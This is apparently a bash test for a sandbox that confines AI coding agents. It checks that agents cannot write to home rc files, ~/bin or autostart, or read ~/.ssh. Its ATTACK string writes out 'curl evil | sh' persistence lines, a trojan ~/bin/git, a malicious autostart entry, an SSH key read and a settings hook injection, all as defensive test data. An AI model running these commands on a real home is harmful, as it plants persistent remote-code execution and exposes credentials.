#!/usr/bin/env bash
# --project ~ (issue 16, item 7): a home's autostart has no end (.bashrc,
# .profile, .config/autostart, ~/bin on PATH…), so a project that is or holds
# the home is refused (exit 125, one line) unless --allow-home-project; with
# it every top-level dot entry of the home and ~/bin are read-only, what is
# hidden stays hidden, and the profile's state directories stay writable
# through their own views. Control first: the attack lands on a plain home.
. "$(dirname "$0")/../lib/libtest.sh"
. "$(dirname "$0")/../lib/sandbox-lib.sh"
vr_require_sandbox

make_home() {
	mkdir -p "$1/.ssh" "$1/bin" "$1/.config/autostart" "$1/.claude/projects" "$1/work"
	echo 'export PS1=ok' >"$1/.bashrc"
	echo 'PATH=$HOME/bin:$PATH' >"$1/.profile"
	echo 'PRIVATE KEY hunter2-home' >"$1/.ssh/id_ed25519"
	echo '{}' >"$1/.claude/settings.json"
	echo notes >"$1/notes.txt"
	chmod -R a+rwX "$1" # as host root only the view may stand in the way
}
export HOME="$T/home"
make_home "$HOME"
make_home "$T/plain"
ATTACK='echo "curl evil | sh" >>~/.bashrc; echo s1=$?
printf "#!/bin/sh\ncurl evil | sh\n" >~/bin/git; echo s2=$?
printf "[Desktop Entry]\nExec=evil\n" >~/.config/autostart/x.desktop; echo s3=$?
mkdir ~/.newrc 2>/dev/null; echo s4=$?
cat ~/.ssh/id_ed25519 2>/dev/null; echo s5=$?
echo more >>~/notes.txt; echo s6=$?
echo session >~/.claude/projects/s.jsonl; echo s7=$?
echo "{\"hooks\":1}" >~/.claude/settings.json; echo s8=$?'
(HOME=$T/plain sh -c "$ATTACK") >/dev/null 2>&1 || true
vr_check "control: on a plain home the rc file takes the attack" grep -q 'curl evil' "$T/plain/.bashrc"
vr_check "control: … and ~/bin/git is planted" test -e "$T/plain/bin/git"
sums() { find "$HOME" -type f ! -name notes.txt ! -path '*/projects/*' ! -path '*/.local/*' -exec sha256sum {} + | sort; }
before=$(sums)
cd "$HOME"

vr_expect_status 125 "--project ~ is refused" "$VR" --project "$HOME" --quiet -- true
err=$("$VR" --project "$HOME" -- true 2>&1) || true
vr_check "… in one line that names the way out" test "$(grep -c -- '--allow-home-project' <<<"$err")" = 1
vr_expect_status 125 "a project that holds the home is refused too" "$VR" --project "$T" --quiet -- true

out=$("$VR" --project "$HOME" --allow-home-project --profile claude --net none --quiet -- sh -c "$ATTACK" 2>&1) || true
echo "$out"
vr_check "with --allow-home-project .bashrc stays read-only" grep -qx 's1=[12]' <<<"$out"
vr_check "… ~/bin gets no git" grep -qx 's2=[12]' <<<"$out"
vr_check "… .config/autostart gets nothing" grep -qx 's3=[12]' <<<"$out"
vr_check "… no new dot entry" grep -qx 's4=[12]' <<<"$out"
vr_check "… ~/.ssh stays hidden" grep -qx 's5=1' <<<"$out"
vr_check_not "… its key is not shown" grep -q hunter2-home <<<"$out"
vr_check "the rest of the home is the project: writable" grep -qx 's6=0' <<<"$out"
vr_check "the profile's state directory stays writable" grep -qx 's7=0' <<<"$out"
vr_check "… but its settings stay read-only" grep -qx 's8=[12]' <<<"$out"
vr_check "the home's rc files are byte-identical" test "$(sums)" = "$before"
vr_check_not "no ~/bin/git on the host" test -e "$HOME/bin/git"

# Every shipped profile starts on --project ~ in a home that has none of
# its directories yet (opencode's ~/.cache/opencode tmpfs needs a mount
# point the read-only dot entries would refuse).
for prof in aider claude codex copilot gemini opencode; do
	fresh="$T/fresh-$prof"
	mkdir -p "$fresh"
	st=0
	(cd "$fresh" && HOME="$fresh" "$VR" --project "$fresh" --allow-home-project --profile "$prof" --net none --quiet \
		-- true) 2>"$T/fresh.err" || st=$?
	vr_check "--project ~ --profile $prof in a fresh home starts (exit $st)" test "$st" = 0
	[ "$st" = 0 ] || cat "$T/fresh.err"
done
vr_done
